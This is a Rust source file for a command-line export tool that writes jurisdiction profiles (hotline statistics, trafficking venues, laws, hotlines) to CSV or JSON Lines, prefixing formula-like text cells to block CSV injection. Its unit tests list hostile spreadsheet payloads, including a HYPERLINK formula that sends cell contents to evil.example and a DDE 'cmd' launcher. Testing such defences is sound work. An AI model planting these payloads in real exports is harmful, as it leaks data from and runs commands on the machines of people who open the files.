//! `tipkit export`: tidy tables over all the profiles, as CSV (RFC 4180) or JSON Lines.

use std::collections::HashMap;
use std::fmt::Write as _;
use std::path::{Path, PathBuf};

use anyhow::{Context, bail};
use tipkit_model::{DemographicBlock, JurisdictionCode, Profile, VenueList};
use tipkit_validate::walk;

use crate::output::stream;
use crate::{Outcome, atomic};

#[derive(Debug, clap::Args)]
pub(crate) struct Args {
    /// Files and folders of profiles; folders are walked for `*.json`. Default: `profiles/`.
    paths: Vec<PathBuf>,
    /// The tables' format.
    #[arg(long, value_enum, default_value_t = Format::Csv)]
    format: Format,
    /// One table. Without it, every table is written to the folder given with `-o`.
    #[arg(long, value_enum)]
    table: Option<Table>,
    /// The folder to write `<table>.csv` or `<table>.jsonl` in; without it, or with `-`, the
    /// table goes to standard output.
    #[arg(short, long)]
    output: Option<PathBuf>,
    /// CSV: write every text cell exactly as the profile has it. By default a text cell that
    /// begins with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, so that a
    /// spreadsheet shows it as text instead of running it as a formula (OWASP's advice against
    /// CSV injection); numbers are never changed, and JSON Lines always keeps values exact.
    #[arg(long)]
    raw_cells: bool,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
enum Format {
    /// Comma-separated values, RFC 4180, with a header row; text cells that a spreadsheet would
    /// run as a formula start with `'` (see `--raw-cells`).
    Csv,
    /// One JSON object per line, values exactly as in the profiles.
    Jsonl,
}

/// The tables, each with one row per …
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
enum Table {
    /// … jurisdiction: identity, status, headline figures, and every single-valued fact.
    Profiles,
    /// … jurisdiction and area the heat map shades.
    #[value(name = "heat_map")]
    HeatMap,
    /// … jurisdiction and year: calls, cases reported.
    #[value(name = "hotline_statistics")]
    HotlineStatistics,
    /// … jurisdiction, block and class: count.
    Demographics,
    /// … jurisdiction, kind and rank: venue.
    Venues,
    /// … jurisdiction and law: title, citation, url.
    Laws,
    /// … jurisdiction, list and name: url.
    Efforts,
    /// … jurisdiction and hotline: name, phone.
    Hotlines,
}

const TABLES: [Table; 8] = [
    Table::Profiles,
    Table::HeatMap,
    Table::HotlineStatistics,
    Table::Demographics,
    Table::Venues,
    Table::Laws,
    Table::Efforts,
    Table::Hotlines,
];

/// A cell: text, a count, a yes/no, or nothing.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Cell {
    Text(String),
    Number(u64),
    Bool(bool),
    Empty,
}

impl From<&str> for Cell {
    fn from(text: &str) -> Self {
        Self::Text(text.to_owned())
    }
}

impl From<u32> for Cell {
    fn from(n: u32) -> Self {
        Self::Number(u64::from(n))
    }
}

impl From<bool> for Cell {
    fn from(b: bool) -> Self {
        Self::Bool(b)
    }
}

impl From<usize> for Cell {
    fn from(n: usize) -> Self {
        Self::Number(u64::try_from(n).unwrap_or(u64::MAX))
    }
}

impl<T: Into<Cell>> From<Option<T>> for Cell {
    fn from(value: Option<T>) -> Self {
        value.map_or(Self::Empty, Into::into)
    }
}

impl Table {
    fn name(self) -> &'static str {
        match self {
            Self::Profiles => "profiles",
            Self::HeatMap => "heat_map",
            Self::HotlineStatistics => "hotline_statistics",
            Self::Demographics => "demographics",
            Self::Venues => "venues",
            Self::Laws => "laws",
            Self::Efforts => "efforts",
            Self::Hotlines => "hotlines",
        }
    }

    fn header(self) -> &'static [&'static str] {
        match self {
            // The first six columns come first, as they always have; the rest follow the format's
            // key order. An empty `*_listed`, `heat_map_year`, `non_cumulative_note`,
            // `statistics_source_name` or `referral_directory_agencies` means that the profile
            // has no such section (a list that is present but empty counts 0).
            Self::Profiles => &[
                "code",
                "name",
                "region",
                "status",
                "cases",
                "persons",
                "schema",
                "schema_version",
                "reporting_period_start",
                "reporting_period_end",
                "heat_map_year",
                "non_cumulative_note",
                "state_statistics_url",
                "statistics_source_name",
                "statistics_source_url",
                "sex_venues_listed",
                "labor_venues_listed",
                "call_types_year",
                "laws_listed",
                "referral_directory_agencies",
            ],
            Self::HeatMap => &["code", "area"],
            Self::HotlineStatistics => &["code", "year", "calls", "cases_reported"],
            Self::Demographics => &["code", "block", "class", "count"],
            Self::Venues => &["code", "kind", "rank", "venue"],
            Self::Laws => &["code", "title", "citation", "url"],
            Self::Efforts => &["code", "list", "name", "url"],
            Self::Hotlines => &["code", "name", "phone"],
        }
    }

    /// The rows of one profile, in the profile's order.
    fn rows(self, profile: &Profile, rows: &mut Vec<Vec<Cell>>) {
        let code = Cell::from(profile.state.code.as_str());
        let row = |cells: Vec<Cell>| [vec![code.clone()], cells].concat();
        match self {
            Self::Profiles => rows.push(row(single_facts(profile))),
            Self::HeatMap => {
                for area in profile.heat_map.iter().flat_map(|h| &h.shaded_areas) {
                    rows.push(row(vec![area.as_str().into()]));
                }
            }
            Self::HotlineStatistics => {
                for y in profile.hotline_statistics.iter().flat_map(|s| &s.years) {
                    rows.push(row(vec![
                        u32::from(y.year.get()).into(),
                        y.calls.into(),
                        y.cases_reported.into(),
                    ]));
                }
            }
            Self::Demographics => {
                let Some(d) = &profile.demographics else {
                    return;
                };
                for block in DemographicBlock::ALL {
                    for (class, count) in block.counts(d) {
                        rows.push(row(vec![
                            block.key().into(),
                            class.key().into(),
                            count.into(),
                        ]));
                    }
                }
            }
            Self::Venues => {
                for list in VenueList::ALL {
                    for (rank, label) in list.entries(profile).into_iter().flatten() {
                        rows.push(row(vec![list.kind().into(), rank.into(), label.into()]));
                    }
                }
            }
            Self::Laws => {
                for law in profile.laws.iter().flatten() {
                    rows.push(row(vec![
                        law.title.as_str().into(),
                        law.citation.as_str().into(),
                        law.url.as_deref().into(),
                    ]));
                }
            }
            Self::Efforts => {
                let Some(e) = &profile.statewide_efforts else {
                    return;
                };
                for (list, links) in e.lists() {
                    for link in links {
                        rows.push(row(vec![
                            list.key().into(),
                            link.name.as_str().into(),
                            link.url.as_deref().into(),
                        ]));
                    }
                }
            }
            Self::Hotlines => {
                for hotline in &profile.hotlines {
                    rows.push(row(vec![
                        hotline.name.as_str().into(),
                        hotline.phone.as_str().into(),
                    ]));
                }
            }
        }
    }
}

/// The `profiles` row of `profile` but its code: every fact that a profile holds once.
fn single_facts(profile: &Profile) -> Vec<Cell> {
    let cases = profile.hotline_cases;
    let period = profile.reporting_period.as_ref();
    let source = profile.hotline_statistics.as_ref().map(|s| &s.source);
    vec![
        profile.state.name.as_str().into(),
        u32::from(profile.hhs_region.get()).into(),
        profile.status.as_str().into(),
        cases.map(|c| c.cases_reported).into(),
        cases.map(|c| c.potential_persons_trafficked).into(),
        profile.schema.as_deref().into(),
        Cell::Number(tipkit_model::SchemaVersion::CURRENT),
        period.map(|p| p.start.as_str()).into(),
        period.map(|p| p.end.as_str()).into(),
        profile
            .heat_map
            .as_ref()
            .map(|h| u32::from(h.year.get()))
            .into(),
        profile.demographics.map(|d| d.non_cumulative_note).into(),
        profile.state_statistics_url.as_str().into(),
        source.map(|s| s.name.as_str()).into(),
        source.map(|s| s.url.as_str()).into(),
        profile.sex_trafficking_venues.as_ref().map(Vec::len).into(),
        profile
            .labor_trafficking_venues
            .as_ref()
            .map(Vec::len)
            .into(),
        profile.call_types.map(|c| u32::from(c.year.get())).into(),
        profile.laws.as_ref().map(Vec::len).into(),
        profile
            .statewide_efforts
            .as_ref()
            .map(|e| e.referral_directory_agencies)
            .into(),
    ]
}

pub(crate) fn run(args: &Args) -> anyhow::Result<Outcome> {
    let output = args.output.as_ref().filter(|dir| dir.as_os_str() != "-");
    let tables: Vec<Table> = match (args.table, output) {
        (Some(table), _) => vec![table],
        (None, Some(_)) => TABLES.to_vec(),
        (None, None) => bail!("name a table with --table, or a folder for all tables with -o"),
    };
    let Some((files, profiles)) = load(&args.paths) else {
        return Ok(Outcome::Findings);
    };
    let extension = if args.format == Format::Csv {
        "csv"
    } else {
        "jsonl"
    };
    let mut written = Vec::new();
    for table in tables {
        let mut rows = Vec::new();
        for profile in &profiles {
            table.rows(profile, &mut rows);
        }
        let text = match args.format {
            Format::Csv => csv(table.header(), &rows, args.raw_cells)?,
            Format::Jsonl => jsonl(table.header(), &rows),
        };
        match output {
            Some(dir) => {
                let path = dir.join(format!("{}.{extension}", table.name()));
                written.push((path, text.into_bytes(), rows.len()));
            }
            None => stream::print(&text)?,
        }
    }
    if let Some(dir) = output {
        write_all(dir, &files, written)?;
    }
    Ok(Outcome::Clean)
}

/// Writes every table into `dir`, all or none: every target is checked (inside `dir`, not a
/// profile read, a regular file or absent) before the first is written ([`atomic::replace_all`]).
fn write_all(
    dir: &Path,
    inputs: &[PathBuf],
    tables: Vec<(PathBuf, Vec<u8>, usize)>,
) -> anyhow::Result<()> {
    let scope = atomic::Scope::output(dir)
        .map_err(|error| anyhow::anyhow!("{}: {error}; no table written", dir.display()))?;
    for (path, _, _) in &tables {
        if inputs.iter().any(|input| atomic::same_file(path, input)) {
            bail!(
                "{} is one of the profiles read; no table written",
                path.display()
            );
        }
        atomic::admit(path, &scope)
            .map_err(|error| anyhow::anyhow!("{}: {error}; no table written", path.display()))?;
    }
    scope.create_folder().map_err(|error| {
        anyhow::anyhow!("cannot create {}: {error}; no table written", dir.display())
    })?;
    let (files, rows): (Vec<(PathBuf, Vec<u8>)>, Vec<usize>) = tables
        .into_iter()
        .map(|(path, text, rows)| ((path, text), rows))
        .unzip();
    atomic::replace_all(&files, &scope)
        .map_err(|(path, error)| anyhow::anyhow!("cannot write {}: {error}", path.display()))?;
    for ((path, _), rows) in files.iter().zip(rows) {
        stream::line(&format!("wrote {} ({rows} rows)", path.display()));
    }
    Ok(())
}

/// The files under `paths` and their profiles; `None`, after saying why, when any cannot be read
/// (a table with rows missing would look complete) or two are of one jurisdiction (which one
/// is right?).
fn load(paths: &[PathBuf]) -> Option<(Vec<PathBuf>, Vec<Profile>)> {
    let paths = if paths.is_empty() {
        vec![PathBuf::from("profiles")]
    } else {
        paths.to_vec()
    };
    let (files, errors) = walk::files(&paths);
    let mut failed = !errors.is_empty();
    for error in &errors {
        stream::error(error);
    }
    let mut profiles = Vec::new();
    // One profile per jurisdiction: a second one would reach every reader of the tables.
    let mut first_of: HashMap<JurisdictionCode, &Path> = HashMap::new();
    for path in &files {
        match read(path) {
            Ok(profile) => {
                let code = profile.state.code;
                let first = *first_of.entry(code).or_insert(path);
                if first != path.as_path() {
                    // The copy not named exactly after its code (`ct.json`) is the second one.
                    let named = |file: &Path| {
                        file.file_name()
                            .and_then(|name| name.to_str())
                            .is_some_and(|name| code.is_file_name(name))
                    };
                    let (second, other) = if named(path) && !named(first) {
                        (first, path.as_path())
                    } else {
                        (path.as_path(), first)
                    };
                    stream::error(format!(
                        "{}: a second profile of {code} ({} is one too)",
                        second.display(),
                        other.display()
                    ));
                    failed = true;
                }
                profiles.push(profile);
            }
            Err(error) => {
                stream::error(format!("{error:#}"));
                failed = true;
            }
        }
    }
    if failed {
        stream::line("nothing exported: fix the profiles above (`tipkit check` says more)");
        return None;
    }
    Some((files, profiles))
}

fn read(path: &Path) -> anyhow::Result<Profile> {
    let bytes = tipkit_validate::read_file(path, tipkit_validate::DEFAULT_SIZE_LIMIT)?;
    tipkit_model::from_slice(&bytes).with_context(|| path.display().to_string())
}

/// RFC 4180: CRLF line ends, fields quoted where they hold a comma, a quote or a line end. Unless
/// `raw_cells`, a text cell that a spreadsheet would run as a formula gets a leading `'`.
fn csv(header: &[&str], rows: &[Vec<Cell>], raw_cells: bool) -> anyhow::Result<String> {
    let mut writer = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(Vec::new());
    writer.write_record(header)?;
    for row in rows {
        writer.write_record(row.iter().map(|cell| match cell {
            Cell::Text(text) if !raw_cells && tipkit_model::starts_formula(text) => {
                format!("'{text}")
            }
            Cell::Text(text) => text.clone(),
            Cell::Number(n) => n.to_string(),
            Cell::Bool(b) => b.to_string(),
            Cell::Empty => String::new(),
        }))?;
    }
    Ok(String::from_utf8(writer.into_inner()?)?)
}

fn jsonl(header: &[&str], rows: &[Vec<Cell>]) -> String {
    let mut out = String::new();
    for row in rows {
        let object: serde_json::Map<String, serde_json::Value> = header
            .iter()
            .zip(row)
            .map(|(key, cell)| {
                let value = match cell {
                    Cell::Text(text) => serde_json::Value::from(text.as_str()),
                    Cell::Number(n) => serde_json::Value::from(*n),
                    Cell::Bool(b) => serde_json::Value::from(*b),
                    Cell::Empty => serde_json::Value::Null,
                };
                ((*key).to_owned(), value)
            })
            .collect();
        let _ = writeln!(out, "{}", serde_json::Value::Object(object));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn one_row(cells: Vec<Cell>, raw_cells: bool) -> String {
        let header = vec!["c"; cells.len()];
        let text = csv(&header, &[cells], raw_cells).unwrap();
        text.split_once("\r\n").unwrap().1.to_owned()
    }

    #[test]
    fn text_that_a_spreadsheet_would_run_gets_a_quote() {
        let hostile = [
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)",
            "\t=1+1",
            "\r=1+1",
        ];
        for text in hostile {
            assert_eq!(cell(text, false), format!("'{text}"), "{text:?}");
            assert_eq!(cell(text, true), text, "--raw-cells keeps {text:?}");
        }
    }

    /// The one cell of a row written from `text`, as a CSV reader reads it back.
    fn cell(text: &str, raw_cells: bool) -> String {
        let row = one_row(vec![text.into()], raw_cells);
        let record = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(row.as_bytes())
            .records()
            .next()
            .unwrap()
            .unwrap();
        record[0].to_owned()
    }

    #[test]
    fn numbers_and_plain_text_stay_as_they_are() {
        let row = one_row(
            vec![
                "Connecticut".into(),
                "§ 53a-82".into(),
                "888-373-7888".into(),
                " =not a formula start".into(),
                Cell::Number(186),
                Cell::Bool(true),
                Cell::Empty,
            ],
            false,
        );
        assert_eq!(
            row,
            "Connecticut,§ 53a-82,888-373-7888, =not a formula start,186,true,\r\n"
        );
    }

    #[test]
    fn json_lines_keep_text_exact() {
        let text = jsonl(&["name"], &[vec!["=1+1".into()]]);
        assert_eq!(text, "{\"name\":\"=1+1\"}\n");
    }
}
